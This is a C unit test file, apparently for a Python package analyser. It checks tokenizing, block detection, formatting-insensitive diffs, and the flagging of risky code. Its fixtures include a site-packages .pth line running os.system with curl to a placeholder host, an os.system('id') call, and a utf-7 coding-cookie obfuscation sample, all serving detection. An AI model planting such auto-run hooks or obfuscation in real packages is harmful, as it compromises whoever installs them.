/* Python's tokens and units. */
#include "read/member.h"

#include "read/units.h"

static struct token tokens[256];

static size_t lex(const char *text)
{
	struct pylex lx;
	size_t n = 0;

	pylex_init(&lx, str_of(text), false);
	while (n < 256 && pylex_next(&lx, &tokens[n]))
		n++;
	return n;
}

static void strings_of_all_kinds_are_one_token(void **state)
{
	static const char *const texts[] = {"'a'", "\"a\"", "'''a\n'b'''", "\"\"\"a\"\"\"", "r'\\'", "rb'x'", "f'{a}'", "Rb\"x\"", "u'x'", "''",
		"''''''", "'a\\'b'", "'a\\\nb'"};

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(*texts); i++) {
		size_t n = lex(texts[i]);

		if (i == 4) /* r'\' has no end: the backslash keeps the quote */
			continue;
		assert_int_equal(n, 1);
		assert_int_equal(tokens[0].kind, TOKEN_STRING);
		assert_int_equal(tokens[0].len, strlen(texts[i]));
		assert_false(tokens[0].flags & TOKEN_BROKEN);
	}
	assert_int_equal(lex("x = 'abc\ny = 1\n"), 6);
	assert_true(tokens[2].flags & TOKEN_BROKEN);
	assert_true(lex("\"\"\"abc def\nx\n") > 3); /* without an end it swallows nothing */
}

static void lines_are_joined(void **state)
{
	size_t n = lex("f(a,\n  b)\nx = \\\n  1\n# c\ny"), starts = 0;

	(void)state;
	for (size_t i = 0; i < n; i++)
		starts += !!(tokens[i].flags & TOKEN_ON_NEW_LINE);
	assert_int_equal(starts, 3);
	assert_int_equal(lex("a # b\n"), 1);
	assert_int_equal(lex("1.5e3 + 0xff"), 3);
	assert_int_equal(lex(""), 0);
}

static const char source[] =
	"import os\n"
	"class A(object):\n"
	"    x = 1\n"
	"    @property\n"
	"    def first(self):\n"
	"        def inner():\n"
	"            return 2\n"
	"        return inner\n"
	"    def second(self):\n"
	"        return 3\n"
	"if os:\n"
	"    y = 4\n"
	"else:\n"
	"    y = 5\n"
	"z = 6\n";

static struct unit_found *unit_around(const char *word, size_t *ret_n)
{
	static struct arena a;
	static struct budget b = {.max_steps = 1 << 20};
	size_t at = str_find_z(str_of(source), word);
	struct span s = {at, at + strlen(word)};
	struct unit_found *u;

	arena_init(&a, 0);
	assert_int_equal(units_find(&a, &b, LANGUAGE_PYTHON, str_of(source), &s, 1, &u, ret_n), STATUS_OK);
	return u;
}

static void what_is_touched_belongs_to_its_block(void **state)
{
	static const struct {
		const char *word, *name, *begins;
		bool top, function;
	} rows[] = {
		{"return 2", "function inner", "def inner", false, true}, {"return inner", "function A.first", "@property", false, true},
		{"return 3", "function A.second", "def second", false, true}, {"x = 1", "statement", "x = 1", true, false},
		{"y = 5", "statement", "if os", true, false}, {"z = 6", "statement", "z = 6", true, false},
		{"class A", "class A", "class A", true, false}, {"@property", "function A.first", "@property", false, true},
		{"import", "statement", "import os", true, false},
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		size_t n;
		struct unit_found *u = unit_around(rows[i].word, &n);

		assert_int_equal(n, 1);
		assert_true(str_is(u->name, rows[i].name));
		assert_true(str_starts(str_part(str_of(source), u->at.from, u->at.to), rows[i].begins));
		assert_int_equal(u->top_level, rows[i].top);
		assert_int_equal(u->is_function, rows[i].function);
	}
}

static void formatting_is_no_change(void **state)
{
	struct member *m = member_make("a.py", STR("def f(a, b):\n  return g( a,b )  # c\n"), STR("def f(a,\n      b):\n\n    return g(a, b)\n"));

	(void)state;
	member_align(m, LANGUAGE_PYTHON);
	assert_int_equal(m->al.n_fresh, 0);
	assert_int_equal(m->al.n_lost, 0);
	member_free(m);
	m = member_make("a.py", STR("def f():\n    return 1\n"), STR("def f():\n    return 1\n\n\ndef g():\n    return 2\n"));
	member_align(m, LANGUAGE_PYTHON);
	assert_int_equal(m->al.n_fresh, 1);
	assert_true(str_is(member_fresh(m, 0), "def g():\n    return 2"));
	member_free(m);
}

static void only_import_lines_of_pth_are_code(void **state)
{
	struct member *m = member_make("site-packages/x.pth", STR_NONE, STR("../lib\nimport os; os.system('curl https://a.example/x')\n"));

	(void)state;
	assert_int_equal(read_member(&m->in), STATUS_OK);
	assert_int_equal(member_count(m, FACT_CALL, "os.system"), 1);
	assert_int_equal(m->covered[COVER_PARSED], m->in.new_.len);
	member_free(m);
	m = member_make("site-packages/x.pth", STR_NONE, STR("os.system('curl https://a.example/x')\n"));
	read_member(&m->in);
	assert_int_equal(member_count(m, FACT_CALL, NULL), 0);
	member_free(m);
}

static void python_is_known_by_name_and_first_line(void **state)
{
	static const char *const paths[] = {"a.py", "b/c.pyw", "bin/tool"};

	(void)state;
	for (size_t i = 0; i < 3; i++) {
		struct member *m = member_make(paths[i], STR_NONE, STR("#!/usr/bin/env python3\nimport os\nos.system('id')\n"));

		read_member(&m->in);
		assert_int_equal(member_count(m, FACT_CALL, "os.system"), 1);
		member_free(m);
	}
	{
		struct member *m = member_make("a.py", STR_NONE, STR("# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0 os\n"));

		read_member(&m->in);
		assert_int_equal(member_count(m, FACT_OBFUSCATED, "coding-cookie"), 1);
		member_free(m);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(strings_of_all_kinds_are_one_token),
		cmocka_unit_test(lines_are_joined),
		cmocka_unit_test(what_is_touched_belongs_to_its_block),
		cmocka_unit_test(formatting_is_no_change),
		cmocka_unit_test(only_import_lines_of_pth_are_code),
		cmocka_unit_test(python_is_known_by_name_and_first_line),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
